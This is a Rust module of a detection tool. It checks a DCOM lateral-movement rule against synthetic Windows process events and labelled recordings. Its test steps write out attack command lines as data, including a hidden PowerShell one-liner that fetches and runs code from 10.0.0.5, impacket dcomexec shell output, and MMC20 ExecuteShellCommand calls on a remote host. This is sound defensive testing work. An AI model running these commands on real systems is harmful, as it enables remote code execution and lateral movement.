//! The validation report: the rule against the telemetry of its testing methodology, and
//! against real recordings.
//!
//! [`validation_events`] are the process starts each test of the rule's methodology produces
//! (Atomic Red Team T1021.003 #1 and #2, MMC20 through impacket's `dcomexec`, ShellWindows and
//! ShellBrowserWindow, `dcomcnfg`, the Elastic RTA, an `Invoke-DCOM` script), each in ECS,
//! Sysmon 1 and Security 4688 form, with the verdict the rule as written must give.
//! [`validate`] evaluates them (and, given paths, every record of real recordings, compared
//! with a `labels.json` when the folder has one) and [`explain`] says, for anything that did
//! not fire, which condition of each branch failed. For each recording it also reports what
//! the stateful profiles (`elastic`, `extended`) raise, and for each labelled DCOM event the
//! seed rule misses, which profile's rule catches it. Diagnostics: allocates freely.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::io::{self, BufRead};
use std::ops::ControlFlow;
use std::path::{Path, PathBuf};

use serde_json::{json, Value};

use crate::alert::AlertOptions;
use crate::correlate::{Profile, ProfileRule, Session};
use crate::rule::wildcard::{LiteralSet, Pattern};
use crate::rule::{Branch, BranchSet, Rule, COM_HOST_PARENTS, DCOMCNFG, PROCESS_CATEGORY, START_TYPE};
use crate::scan::{Outcome, Position, ScanOptions};
use crate::source::scan_path;
use crate::view::ecs::Decoder;
use crate::view::event::Fields;
use crate::view::field::FieldId;

/// One process start of a test, in the three forms.
struct Step {
    test: &'static str,
    step: &'static str,
    parent: &'static str,
    parent_command_line: &'static str,
    image: &'static str,
    command_line: &'static str,
    expected: &'static [Branch],
}

const MMC: &str = r"C:\Windows\System32\mmc.exe";
const SVCHOST: &str = r"C:\Windows\System32\svchost.exe";
const EXPLORER: &str = r"C:\Windows\explorer.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const EXCEL: &str = r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE";

const STEPS: &[Step] = &[
    Step {
        test: "ART T1021.003-1: MMC20.Application ExecuteShellCommand (PowerShell)",
        step: "source: powershell.exe creates MMC20.Application on the target",
        parent: EXPLORER,
        parent_command_line: r"C:\Windows\Explorer.EXE",
        image: POWERSHELL,
        command_line: r#"powershell.exe -Command [activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.application","ws-target-01")).Document.ActiveView.ExecuteShellCommand("c:\windows\system32\calc.exe", $null, $null, "7")"#,
        expected: &[],
    },
    Step {
        test: "ART T1021.003-1: MMC20.Application ExecuteShellCommand (PowerShell)",
        step: "target: DcomLaunch starts mmc.exe -Embedding",
        parent: SVCHOST,
        parent_command_line: r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
        image: MMC,
        command_line: r"C:\Windows\system32\mmc.exe -Embedding",
        expected: &[],
    },
    Step {
        test: "ART T1021.003-1: MMC20.Application ExecuteShellCommand (PowerShell)",
        step: "target: mmc.exe starts calc.exe",
        parent: MMC,
        parent_command_line: r"C:\Windows\system32\mmc.exe -Embedding",
        image: r"C:\Windows\System32\calc.exe",
        command_line: r#""C:\windows\system32\calc.exe""#,
        expected: &[],
    },
    Step {
        test: "MMC20.Application with a shell (impacket dcomexec.py)",
        step: "target: mmc.exe starts cmd.exe with output to ADMIN$",
        parent: MMC,
        parent_command_line: r"C:\Windows\system32\mmc.exe -Embedding",
        image: CMD,
        command_line: r#""C:\Windows\System32\cmd.exe" /Q /c whoami /all 1> \\127.0.0.1\ADMIN$\__1556656511.61 2>&1"#,
        expected: &[Branch::OfficeChild],
    },
    Step {
        test: "ART T1021.003-2: Excel.Application ActivateMicrosoftApp",
        step: "source: powershell.exe creates Excel.Application on the target",
        parent: EXPLORER,
        parent_command_line: r"C:\Windows\Explorer.EXE",
        image: POWERSHELL,
        command_line: r#"powershell.exe -Command $com = [System.Activator]::CreateInstance([type]::GetTypeFromProgID("Excel.Application","ws-target-01")); $com.ActivateMicrosoftApp("5")"#,
        expected: &[],
    },
    Step {
        test: "ART T1021.003-2: Excel.Application ActivateMicrosoftApp",
        step: "target: DcomLaunch starts EXCEL.EXE /automation -Embedding",
        parent: SVCHOST,
        parent_command_line: r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
        image: EXCEL,
        command_line: r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" /automation -Embedding"#,
        expected: &[],
    },
    Step {
        test: "ART T1021.003-2: Excel.Application ActivateMicrosoftApp",
        step: "target: EXCEL.EXE starts foxprow.exe (a renamed calc)",
        parent: EXCEL,
        parent_command_line: r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" /automation -Embedding"#,
        image: r"C:\Users\admin\AppData\Local\Microsoft\WindowsApps\foxprow.exe",
        command_line: r"foxprow.exe",
        expected: &[],
    },
    Step {
        test: "Excel.Application running a shell (DDEInitiate / Run)",
        step: "target: EXCEL.EXE starts cmd.exe",
        parent: EXCEL,
        parent_command_line: r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" /automation -Embedding"#,
        image: CMD,
        command_line: r"cmd.exe /c powershell -nop -w hidden -c IEX(iwr http://10.0.0.5/a)",
        expected: &[Branch::OfficeChild],
    },
    Step {
        test: "ShellWindows (Empire Invoke-DCOM -Method ShellWindows; ART T1546.015)",
        step: "target: the running explorer.exe starts cmd.exe",
        parent: EXPLORER,
        parent_command_line: r"C:\Windows\Explorer.EXE",
        image: CMD,
        command_line: r#""C:\Windows\system32\cmd.exe" /c calc.exe"#,
        expected: &[],
    },
    Step {
        test: "ShellBrowserWindow (ART T1553.005)",
        step: "target: the running explorer.exe opens a shortcut with PowerShell",
        parent: EXPLORER,
        parent_command_line: r"C:\Windows\Explorer.EXE",
        image: POWERSHELL,
        command_line: r"powershell.exe -nop -w hidden -File D:\payload.ps1",
        expected: &[],
    },
    Step {
        test: "DCOM configuration tool (dcomcnfg)",
        step: "dcomcnfg.exe is started",
        parent: EXPLORER,
        parent_command_line: r"C:\Windows\Explorer.EXE",
        image: r"C:\Windows\System32\dcomcnfg.exe",
        command_line: r#""C:\Windows\system32\dcomcnfg.exe""#,
        expected: &[Branch::Dcomcnfg],
    },
    Step {
        test: "DCOM configuration tool (dcomcnfg)",
        step: "dcomcnfg.exe opens the Component Services snap-in",
        parent: r"C:\Windows\System32\dcomcnfg.exe",
        parent_command_line: r#""C:\Windows\system32\dcomcnfg.exe""#,
        image: MMC,
        command_line: r#""C:\Windows\system32\mmc.exe" C:\Windows\system32\comexp.msc"#,
        expected: &[],
    },
    Step {
        test: "Elastic RTA dcom_lateral_movement_with_mmc",
        step: "source: powershell.exe -c with $dcom and .ExecuteShellCommand",
        parent: CMD,
        parent_command_line: r"cmd.exe",
        image: POWERSHELL,
        command_line: r#"powershell -c "$dcom=[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','ws-target-01')); $dcom.Document.ActiveView.ExecuteShellCommand('C:\\Windows\\System32\\cmd.exe',$null,'whoami','7')""#,
        expected: &[],
    },
    Step {
        test: "Elastic RTA dcom_lateral_movement_with_mmc",
        step: "target: mmc.exe starts cmd.exe whoami",
        parent: MMC,
        parent_command_line: r"C:\Windows\system32\mmc.exe -Embedding",
        image: CMD,
        command_line: r#""C:\Windows\System32\cmd.exe" whoami"#,
        expected: &[Branch::OfficeChild],
    },
    Step {
        test: "Invoke-DCOM run as a script",
        step: "source: powershell.exe -ExecutionPolicy Bypass -File Invoke-DCOM.ps1",
        parent: CMD,
        parent_command_line: r"cmd.exe",
        image: POWERSHELL,
        command_line: r"powershell.exe -ExecutionPolicy Bypass -File C:\Tools\Invoke-DCOM.ps1 -ComputerName ws-target-01 -Method MMC20.Application -Command calc.exe",
        expected: &[Branch::DcomCommandLine],
    },
];

/// One bundled validation event.
#[derive(Clone, Debug)]
pub struct ValidationEvent {
    /// The test of the methodology.
    pub test: &'static str,
    /// The process start within it.
    pub step: &'static str,
    /// `ecs`, `sysmon` or `security_4688`.
    pub form: &'static str,
    /// The branches the rule as written must fire.
    pub expected: BranchSet,
    /// The event, as one JSON record.
    pub record: String,
}

fn basename(path: &str) -> &str {
    crate::view::windows::windows_basename(path)
}

/// The bundled validation events: every step of every test, in ECS, Sysmon 1 and Security
/// 4688 form.
pub fn validation_events() -> Vec<ValidationEvent> {
    let mut out = Vec::new();
    for (i, s) in STEPS.iter().enumerate() {
        let mut expected = BranchSet::EMPTY;
        for b in s.expected {
            expected.insert(*b);
        }
        let time = format!("2024-06-03T09:{:02}:00.000Z", i);
        let ecs = json!({
            "@timestamp": time,
            "event": {"category": ["process"], "type": ["start"], "kind": "event", "module": "endpoint"},
            "host": {"name": "ws-target-01"},
            "user": {"name": "admin", "domain": "LAB"},
            "process": {
                "name": basename(s.image), "executable": s.image, "command_line": s.command_line, "pid": 4100 + i,
                "parent": {"name": basename(s.parent), "executable": s.parent, "command_line": s.parent_command_line, "pid": 3100 + i},
            },
        });
        let sysmon = json!({
            "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Hostname": "ws-target-01.lab.local",
            "UtcTime": format!("2024-06-03 09:{:02}:00.000", i), "User": "LAB\\admin",
            "Image": s.image, "CommandLine": s.command_line, "ProcessId": format!("{}", 4100 + i),
            "ParentImage": s.parent, "ParentCommandLine": s.parent_command_line, "ParentProcessId": format!("{}", 3100 + i),
        });
        let security = json!({
            "Event": {
                "System": {"Channel": "Security", "EventID": 4688, "EventRecordID": 70000 + i, "Computer": "ws-target-01.lab.local",
                           "TimeCreated": {"#attributes": {"SystemTime": time}}},
                "EventData": {"SubjectUserName": "admin", "SubjectDomainName": "LAB", "NewProcessName": s.image,
                              "NewProcessId": format!("{:#x}", 4100 + i), "CommandLine": s.command_line,
                              "ParentProcessName": s.parent, "ProcessId": format!("{:#x}", 3100 + i)},
            }
        });
        for (form, event) in [("ecs", ecs), ("sysmon", sysmon), ("security_4688", security)] {
            out.push(ValidationEvent { test: s.test, step: s.step, form, expected, record: event.to_string() });
        }
    }
    out
}

/// Why the rule did not fire on `event`, branch by branch (empty when it fired).
pub fn explain<E: Fields + ?Sized>(rule: &Rule, event: &E) -> String {
    let verdict = rule.evaluate(event);
    if verdict.fired() {
        return String::new();
    }
    let fields = rule.fields();
    let values = |id: FieldId| -> Vec<String> {
        let field = fields.get(id);
        event.values(field).filter(|v| field.mapping().indexes(*v)).map(|v| v.to_string()).collect()
    };
    let show = |vs: &[String]| -> String {
        match vs {
            [] => "absent".into(),
            [one] => one.clone(),
            many => format!("[{}]", many.join(", ")),
        }
    };
    let category = values(FieldId::EVENT_CATEGORY);
    let event_type = values(FieldId::EVENT_TYPE);
    if !category.iter().any(|c| c == PROCESS_CATEGORY) || !event_type.iter().any(|t| t == START_TYPE) {
        return format!("not a process start (event.category {}, event.type {})", show(&category), show(&event_type));
    }
    let fold = rule.options().case_folding;
    let parents = LiteralSet::new(&COM_HOST_PARENTS, fold);
    let in_parents = |vs: &[String]| vs.iter().any(|v| parents.matches(crate::Text::utf8(v)));
    let parent = values(FieldId::PROCESS_PARENT_NAME);
    let name = values(FieldId::PROCESS_NAME);
    let command_line = values(FieldId::PROCESS_COMMAND_LINE);
    let mut why = Vec::new();
    why.push(if !in_parents(&parent) {
        format!("parent {} is not a COM host", show(&parent))
    } else {
        format!("{} (child of {}) is not a listed script host or LOLBin", show(&name), show(&parent))
    });
    if name.iter().any(|n| n.eq_ignore_ascii_case(DCOMCNFG)) {
        why.push(format!("{} is not exactly {DCOMCNFG} (== is case-sensitive)", show(&name)));
    }
    let dcom = Pattern::wildcard("*DCOM*", fold);
    let exec = Pattern::wildcard("*-Exec*", fold);
    let has = |p: &Pattern| command_line.iter().any(|c| p.matches(crate::Text::utf8(c)));
    why.push(match (command_line.is_empty(), has(&dcom), has(&exec)) {
        (true, _, _) => "no command line".into(),
        (_, false, false) => "the command line has neither DCOM nor -Exec".into(),
        (_, false, true) => "the command line has -Exec but not DCOM".into(),
        (_, true, _) => "the command line has DCOM but not -Exec".into(),
    });
    why.join("; ")
}

/// The outcome of one bundled step, over its forms.
#[derive(Clone, Debug)]
pub struct StepResult {
    /// The test.
    pub test: &'static str,
    /// The step.
    pub step: &'static str,
    /// What the rule as written must fire.
    pub expected: BranchSet,
    /// What fired, per form (`ecs`, `sysmon`, `security_4688`).
    pub fired: Vec<(&'static str, BranchSet)>,
    /// Forms whose alert an exception item suppressed, with the item's name.
    pub suppressed: Vec<(&'static str, String)>,
    /// Why nothing fired, when nothing did.
    pub why: String,
}

impl StepResult {
    /// Whether every form gave the expected verdict, and no exception suppressed an alert
    /// the methodology expects (an over-broad exception).
    pub fn agrees(&self) -> bool {
        self.fired.iter().all(|(_, f)| *f == self.expected) && (self.expected.is_empty() || self.suppressed.is_empty())
    }
}

/// A real recording's outcome.
#[derive(Clone, Debug, Default)]
pub struct FileResult {
    /// The file.
    pub file: String,
    /// Records read.
    pub records: u64,
    /// Records rejected (with reasons).
    pub rejected: Vec<(String, String)>,
    /// Records the rule fired on: (position label, branches, suppressing item if any).
    pub fired: Vec<(String, BranchSet, Option<String>)>,
    /// The positions `labels.json` expects to fire, when the folder has labels.
    pub expected: Option<Vec<String>>,
    /// Labelled DCOM activity the rule does not fire on, with why.
    pub missed: Vec<(String, String)>,
    /// What the stateful profiles raised, one scan per profile with its own state: (rule,
    /// anchor position label), in the order raised.
    pub correlated: Vec<(ProfileRule, String)>,
    /// What the labels expect the stateful profiles to raise, per profile the labels speak
    /// of (`correlation_anchors`: `D2`, `D2L`, `D3` for `extended`; `elastic_mmc20`,
    /// `elastic_shellwindows`, `elastic_hta` for `elastic`). A profile the labels do not
    /// mention anywhere is reported, not judged.
    pub expected_correlated: Vec<(Profile, Vec<(ProfileRule, String)>)>,
}

impl FileResult {
    /// Whether what raised an alert is exactly what the labels expect (true without labels):
    /// an expected alert suppressed by an exception is a disagreement.
    pub fn agrees(&self) -> bool {
        self.rejected.is_empty()
            && self.expected.as_ref().is_none_or(|e| {
                let alerts: BTreeSet<&String> =
                    self.fired.iter().filter(|(_, _, s)| s.is_none()).map(|(p, _, _)| p).collect();
                alerts == e.iter().collect()
            })
            && self.expected_correlated.iter().all(|(profile, expected)| {
                let raised: BTreeSet<&(ProfileRule, String)> =
                    self.correlated.iter().filter(|(r, _)| r.profile() == *profile).collect();
                raised == expected.iter().collect()
            })
    }

    /// The stateful rules that raised an alert anchored at `position`.
    fn caught_at(&self, position: &str) -> Vec<&'static str> {
        self.correlated.iter().filter(|(_, p)| p == position).map(|(r, _)| r.name()).collect()
    }
}

/// The whole report.
#[derive(Clone, Debug, Default)]
pub struct Report {
    /// Bundled methodology steps.
    pub steps: Vec<StepResult>,
    /// Real recordings.
    pub files: Vec<FileResult>,
}

fn names(set: BranchSet) -> String {
    if set.is_empty() {
        "-".into()
    } else {
        set.iter().map(Branch::name).collect::<Vec<_>>().join(",")
    }
}

fn label(position: &Position) -> String {
    match position {
        Position::Line { line, .. } => format!("line {line}"),
        Position::Evtx { record_id: Some(id), .. } => format!("EventRecordID {id}"),
        Position::Evtx { ordinal, .. } => format!("record {ordinal}"),
        Position::Row { row } => format!("row {row}"),
    }
}

impl Report {
    /// Whether everything agrees with its expectation.
    pub fn ok(&self) -> bool {
        self.steps.iter().all(StepResult::agrees) && self.files.iter().all(FileResult::agrees)
    }

    /// The report as JSON, for CI.
    pub fn to_json(&self) -> Value {
        json!({
            "ok": self.ok(),
            "methodology": self.steps.iter().map(|s| json!({
                "test": s.test, "step": s.step, "expected": names(s.expected),
                "fired": s.fired.iter().map(|(form, f)| (form.to_string(), json!(names(*f)))).collect::<serde_json::Map<_, _>>(),
                "suppressed": s.suppressed.iter().map(|(form, item)| (form.to_string(), json!(item))).collect::<serde_json::Map<_, _>>(),
                "agrees": s.agrees(), "why_not_fired": if s.why.is_empty() { Value::Null } else { json!(s.why) },
            })).collect::<Vec<_>>(),
            "recordings": self.files.iter().map(|f| json!({
                "file": f.file, "records": f.records, "agrees": f.agrees(),
                "fired": f.fired.iter().map(|(p, b, s)| json!({"at": p, "branches": names(*b), "suppressed_by": s})).collect::<Vec<_>>(),
                "expected": f.expected,
                "rejected": f.rejected.iter().map(|(p, e)| json!({"at": p, "error": e})).collect::<Vec<_>>(),
                "dcom_missed": f.missed.iter().map(|(p, w)| json!({"at": p, "why": w, "caught_by": f.caught_at(p)})).collect::<Vec<_>>(),
                "correlated": f.correlated.iter().map(|(r, p)| json!({"at": p, "rule": r.name(), "profile": r.profile().name()})).collect::<Vec<_>>(),
                "expected_correlated": f.expected_correlated.iter().map(|(profile, e)| {
                    (profile.name().to_owned(), e.iter().map(|(r, p)| json!({"at": p, "rule": r.name()})).collect::<Value>())
                }).collect::<serde_json::Map<_, _>>(),
            })).collect::<Vec<_>>(),
        })
    }

    /// The report as a table for people.
    pub fn to_table(&self) -> String {
        let mut out = String::new();
        let _ = writeln!(
            out,
            "The rule against its testing methodology (bundled events; forms: ECS, Sysmon 1, Security 4688)\n"
        );
        let mut test = "";
        for s in &self.steps {
            if s.test != test {
                test = s.test;
                let _ = writeln!(out, "{test}");
            }
            let fired: BTreeSet<String> = s.fired.iter().map(|(_, f)| names(*f)).collect();
            let fired = fired.into_iter().collect::<Vec<_>>().join(" / ");
            let verdict = if !s.agrees() {
                "DISAGREES"
            } else if s.expected.is_empty() {
                "no alert"
            } else {
                "ALERT"
            };
            let suppressed: BTreeSet<&String> = s.suppressed.iter().map(|(_, item)| item).collect();
            let _ = writeln!(out, "  {:<66} expected {:<18} fired {:<18} {verdict}", s.step, names(s.expected), fired);
            if !s.why.is_empty() {
                let _ = writeln!(out, "      why not: {}", s.why);
            }
            for item in suppressed {
                let _ = writeln!(out, "      SUPPRESSED by exception {item:?}");
            }
        }
        for f in &self.files {
            let _ = writeln!(
                out,
                "\n{}: {} records, {} fired{}",
                f.file,
                f.records,
                f.fired.len(),
                match &f.expected {
                    Some(e) =>
                        format!(", {} expected: {}", e.len(), if f.agrees() { "as expected" } else { "DISAGREES" }),
                    None => String::new(),
                }
            );
            for (p, b, s) in &f.fired {
                match s {
                    None => {
                        let _ = writeln!(out, "  fired     {p:<24} {}", names(*b));
                    }
                    Some(item) => {
                        let _ = writeln!(out, "  fired     {p:<24} {} (SUPPRESSED by exception {item:?})", names(*b));
                    }
                }
            }
            if let Some(expected) = &f.expected {
                let fired: BTreeSet<&String> = f.fired.iter().map(|(p, _, _)| p).collect();
                for e in expected.iter().filter(|e| !fired.contains(e)) {
                    let _ = writeln!(out, "  MISSING   {e}");
                }
            }
            for (p, e) in &f.rejected {
                let _ = writeln!(out, "  rejected  {p:<24} {e}");
            }
            for (r, p) in &f.correlated {
                let _ = writeln!(out, "  raised    {p:<24} {} ({} profile)", r.name(), r.profile());
            }
            for (_, expected) in &f.expected_correlated {
                for (r, p) in expected.iter().filter(|e| !f.correlated.contains(e)) {
                    let _ = writeln!(out, "  MISSING   {p:<24} {} ({} profile)", r.name(), r.profile());
                }
            }
            for (p, w) in &f.missed {
                let caught = f.caught_at(p);
                let by = if caught.is_empty() { "no profile".to_owned() } else { caught.join(", ") };
                let _ = writeln!(out, "  DCOM activity the seed rule misses at {p}: {w}; caught by {by}");
            }
        }
        let _ = writeln!(
            out,
            "\n{}",
            if self.ok() {
                "OK: every verdict is the expected one"
            } else {
                "FAILED: see DISAGREES / MISSING / rejected above"
            }
        );
        out
    }
}

/// Evaluates the bundled methodology events and, for each path (a file, or a folder searched
/// for `.ndjson`, `.jsonl`, `.json`, `.gz` and `.evtx` files), every record of the real recordings.
/// A folder with a `labels.json` in the format of `shared/realdata` gives the expected matches
/// and the DCOM activity to explain.
pub fn validate(rule: &Rule, paths: &[PathBuf]) -> io::Result<Report> {
    let mut report = Report::default();
    let mut decoder = Decoder::new();
    let events = validation_events();
    for chunk in events.chunks(3) {
        let mut fired = Vec::new();
        let mut suppressed = Vec::new();
        let mut why = String::new();
        for e in chunk {
            let (branches, suppressed_by, explained) = rule
                .evaluate_json(&mut decoder, e.record.as_bytes(), |doc, verdict| {
                    (verdict.branches(), verdict.suppressed_by, why.is_empty().then(|| explain(rule, doc)))
                })
                .map_err(|err| {
                    io::Error::new(io::ErrorKind::InvalidData, format!("bundled event {}: {err}", e.step))
                })?;
            fired.push((e.form, branches));
            if let Some(item) = suppressed_by {
                suppressed.push((e.form, rule.exceptions().items()[item].name().to_owned()));
            }
            if let Some(explained) = explained {
                why = explained;
            }
        }
        report.steps.push(StepResult {
            test: chunk[0].test,
            step: chunk[0].step,
            expected: chunk[0].expected,
            fired,
            suppressed,
            why,
        });
    }
    for path in paths {
        let (root, files, labels) = if path.is_dir() {
            (path.clone(), recordings(path)?, read_labels(&path.join("labels.json"))?)
        } else {
            (path.parent().map(Path::to_path_buf).unwrap_or_default(), vec![path.clone()], Labels::default())
        };
        for file in files {
            let name = file.strip_prefix(&root).unwrap_or(&file).to_string_lossy().replace('\\', "/");
            let label_key = labels
                .files
                .keys()
                .find(|k| name == **k || (k.ends_with("/*") && name.starts_with(&k[..k.len() - 1])))
                .cloned();
            let mut result = scan_file(rule, &file, &name)?;
            if let Some(key) = label_key {
                let label = &labels.files[&key];
                result.expected_correlated = labels
                    .profiles
                    .iter()
                    .map(|&p| (p, label.anchors.iter().filter(|(r, _)| r.profile() == p).cloned().collect()))
                    .collect();
                if !key.ends_with("/*") {
                    result.expected = Some(label.expected.clone());
                    result.missed = explain_missed(rule, &file, &label.missed)?;
                } else {
                    result.expected = Some(Vec::new());
                }
            }
            report.files.push(result);
        }
    }
    Ok(report)
}

fn recordings(dir: &Path) -> io::Result<Vec<PathBuf>> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d)? {
            let path = entry?.path();
            if path.is_dir() {
                stack.push(path);
            } else if matches!(
                path.extension().and_then(|e| e.to_str()),
                Some("ndjson" | "jsonl" | "json" | "gz" | "evtx")
            ) && path.file_name() != Some("labels.json".as_ref())
            {
                out.push(path);
            }
        }
    }
    out.sort();
    Ok(out)
}

/// What a folder's `labels.json` expects.
#[derive(Debug, Default)]
struct Labels {
    files: BTreeMap<String, FileLabels>,
    /// The stateful profiles the labels speak of (any file naming one of its rules).
    profiles: Vec<Profile>,
}

/// What `labels.json` says of one file.
#[derive(Debug, Default)]
struct FileLabels {
    /// Position labels where the seed rule must fire.
    expected: Vec<String>,
    /// Labelled DCOM activity the seed rule misses: (position label, ordinal or line).
    missed: Vec<(String, u64)>,
    /// `correlation_anchors`: (rule, position label) of every stateful alert expected.
    anchors: Vec<(ProfileRule, String)>,
}

fn read_labels(path: &Path) -> io::Result<Labels> {
    let Ok(bytes) = std::fs::read(path) else {
        return Ok(Labels::default());
    };
    let doc: Value = serde_json::from_slice(&bytes)
        .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, format!("{}: {e}", path.display())))?;
    let mut out = Labels::default();
    for (file, entry) in doc["files"].as_object().into_iter().flatten() {
        let at = |m: &Value| -> Option<(String, u64)> {
            if let Some(line) = m["line"].as_u64() {
                Some((format!("line {line}"), line))
            } else {
                let ordinal = m["ordinal"].as_u64()?;
                Some((
                    m["event_record_id"]
                        .as_u64()
                        .map_or(format!("record {ordinal}"), |id| format!("EventRecordID {id}")),
                    ordinal,
                ))
            }
        };
        let expected =
            entry["expected_match"].as_array().into_iter().flatten().filter_map(at).map(|(l, _)| l).collect();
        let missed = entry["dcom_related_missed"].as_array().into_iter().flatten().filter_map(at).collect();
        // Anchors are NDJSON lines, or EVTX EventRecordIDs.
        let evtx = file.ends_with(".evtx");
        let mut anchors = Vec::new();
        for (name, positions) in entry["correlation_anchors"].as_object().into_iter().flatten() {
            let Some(rule) = ProfileRule::find(name.strip_prefix("elastic_").unwrap_or(name)) else { continue };
            if !out.profiles.contains(&rule.profile()) {
                out.profiles.push(rule.profile());
            }
            for p in positions.as_array().into_iter().flatten().filter_map(Value::as_u64) {
                anchors.push((rule, if evtx { format!("EventRecordID {p}") } else { format!("line {p}") }));
            }
        }
        anchors.sort();
        out.files.insert(file.clone(), FileLabels { expected, missed, anchors });
    }
    Ok(out)
}

fn scan_file(rule: &Rule, file: &Path, name: &str) -> io::Result<FileResult> {
    let mut result = FileResult { file: name.to_owned(), ..FileResult::default() };
    // Keep the kind, and name the file (the OS error alone would not say which one).
    let failed = |e: crate::scan::ScanError| io::Error::new(e.error.kind(), format!("{}: {}", file.display(), e.error));
    let stats = scan_path(rule, &ScanOptions::default(), file, |found| {
        let position = label(&found.position);
        match found.outcome {
            Outcome::Matched(branches) => result.fired.push((position, branches, None)),
            Outcome::Suppressed { branches, item } => {
                result.fired.push((position, branches, Some(rule.exceptions().items()[item].name().to_owned())))
            }
            Outcome::Rejected(error) => result.rejected.push((position, error.to_string())),
            Outcome::NotMatched => {}
        }
        ControlFlow::Continue(())
    })
    .map_err(failed)?;
    result.records = stats.records;
    for profile in [Profile::Elastic, Profile::Extended] {
        let mut session = Session::new(rule, profile, AlertOptions::default());
        let mut raised = Vec::new();
        let options = ScanOptions { profile, ..ScanOptions::default() };
        scan_path(rule, &options, file, |found| {
            session.feed_found(&found, None, |alert, _, position| raised.push((alert.correlation(), position)));
            ControlFlow::Continue(())
        })
        .map_err(failed)?;
        session.finish(|alert, _, position| raised.push((alert.correlation(), position)));
        let mut raised: Vec<(ProfileRule, String)> =
            raised.into_iter().filter_map(|(r, p)| Some((r?, label(&p)))).collect();
        raised.sort();
        result.correlated.extend(raised);
    }
    Ok(result)
}

/// Why each labelled DCOM event (by line or ordinal) did not fire.
fn explain_missed(rule: &Rule, file: &Path, missed: &[(String, u64)]) -> io::Result<Vec<(String, String)>> {
    if missed.is_empty() {
        return Ok(Vec::new());
    }
    let wanted: BTreeMap<u64, &String> = missed.iter().map(|(l, n)| (*n, l)).collect();
    let mut records: BTreeMap<u64, Vec<u8>> = BTreeMap::new();
    if file.extension().and_then(|e| e.to_str()) == Some("evtx") {
        #[cfg(feature = "evtx")]
        {
            let mut parser = evtx::EvtxParser::from_path(file)
                .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e.to_string()))?;
            for (i, r) in parser.records_json().enumerate() {
                if let (true, Ok(r)) = (wanted.contains_key(&(i as u64 + 1)), r) {
                    records.insert(i as u64 + 1, r.data.into_bytes());
                }
            }
        }
    } else {
        let reader = io::BufReader::new(crate::source::open(file)?);
        for (i, line) in reader.split(b'\n').enumerate() {
            let n = i as u64 + 1;
            if wanted.contains_key(&n) {
                records.insert(n, line?);
            }
        }
    }
    let mut decoder = Decoder::new();
    let mut out = Vec::new();
    for (n, label) in wanted {
        let why = match records.get(&n).map(|r| decoder.decode(rule.paths(), r)) {
            Some(Ok(doc)) => {
                let why = explain(rule, &doc);
                if why.is_empty() {
                    "fired".into()
                } else {
                    why
                }
            }
            Some(Err(e)) => format!("unreadable: {e}"),
            None => "not found in the file".into(),
        };
        out.push((label.clone(), why));
    }
    Ok(out)
}
